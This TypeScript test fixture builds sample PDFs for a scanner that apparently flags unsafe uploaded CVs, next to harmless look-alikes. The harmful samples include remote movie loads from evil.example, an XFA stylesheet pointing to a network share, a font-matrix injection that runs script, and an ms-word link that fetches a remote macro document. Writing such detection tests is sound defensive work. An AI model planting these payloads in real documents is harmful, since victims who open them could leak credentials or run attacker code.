/** PDFs that fetch or start something in a way that few know, and genuine ones that look alike. */
import type { Harmful } from './harmful-pdfs.ts';
import { ADDRESSES } from './odd-addresses.ts';
import { CATALOGUE, CONTENTS, PAGE, PAGES, pdf, stream } from './pdf.ts';

const unsafe = (what: string, content: Buffer): Harmful => [what, 'cv.pdf', content, 'unsafeFile'];
const withObject = (object: string) => pdf([CATALOGUE, PAGES, PAGE, CONTENTS, object]);
const withMarks = (...marks: string[]) =>
  pdf([
    CATALOGUE,
    PAGES,
    `${PAGE.slice(0, -2)} /Annots [${marks.map((mark) => `<< ${mark} >>`).join(' ')}] >>`,
    CONTENTS,
  ]);
const linkTo = (address: string) => `/Subtype /Link /A << /S /URI /URI (${address}) >>`;
const film = (place: string) => withMarks(`/Subtype /Movie /A true /Movie << /F ${place} >>`);
const form = (xml: string) =>
  pdf([CATALOGUE.replace('>>', '/AcroForm << /XFA 5 0 R >> >>'), PAGES, PAGE, CONTENTS, stream(xml)]);

export const oddHarmfulPdfs: Harmful[] = [
  unsafe('a film from elsewhere', film('(https://evil.example/a.mov)')),
  unsafe('a film from elsewhere, as a file', film('<< /Type /Filespec /FS /URL /F (https://evil.example/a.mov) >>')),
  unsafe(
    'a form with a style from a share',
    form('<?xml-stylesheet href="\\\\evil.example\\a.xslt"?><a><template/></a>'),
  ),
  unsafe('a font with code', withObject('<< /Type /Font /Subtype /Type1 /FontMatrix [1 2 3 4 5 (0\\); alert\\(1)] >>')),
  unsafe('a link to a program of the system', withMarks(linkTo('ms-word:ofe|u|https://evil.example/a.docm'))),
];

export const oddGenuinePdfs: [name: string, content: Buffer][] = [
  ['with a film beside it.pdf', film('(film.mov)')],
  ['with a font of its own.pdf', withObject('<< /Type /Font /Subtype /Type3 /FontMatrix [0.001 0 0 0.001 0 0] >>')],
  ['with links of every kind.pdf', withMarks(...ADDRESSES.map(linkTo))],
];
